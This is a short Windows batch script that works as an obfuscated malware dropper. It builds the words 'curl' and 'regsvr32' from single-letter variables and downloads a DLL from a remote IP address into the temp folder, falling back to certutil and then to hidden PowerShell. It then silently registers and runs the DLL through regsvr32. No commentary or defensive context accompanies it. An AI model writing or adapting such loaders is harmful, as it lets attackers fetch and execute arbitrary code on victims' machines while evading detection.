@echo off
set kEF=l
set XSvs=u
set nuy=r
set Akq=c
set hsqd=-
set lGz=r
set kCi=e
set Oxr=g
set Lpa=s
set Vwm=v
set Zcb=3
set Qfu=2
set uBn=.
set rTk=x
set oWp=e
%Akq%%XSvs%%nuy%%kEF% http://203.0.113.150/sdd/sdd.dll -o %TEMP%\sdd.dll 2>nul
if not exist %TEMP%\sdd.dll (certutil.exe -urlcache -f http://203.0.113.150/sdd/sdd.dll %TEMP%\sdd.dll >nul 2>&1)
if not exist %TEMP%\sdd.dll (powershell -w hidden -c "iwr http://203.0.113.150/sdd/sdd.dll -OutFile $env:TEMP\sdd.dll")
%lGz%%kCi%%Oxr%%Lpa%%Vwm%%nuy%%Zcb%%Qfu% -s %TEMP%\sdd.dll
exit
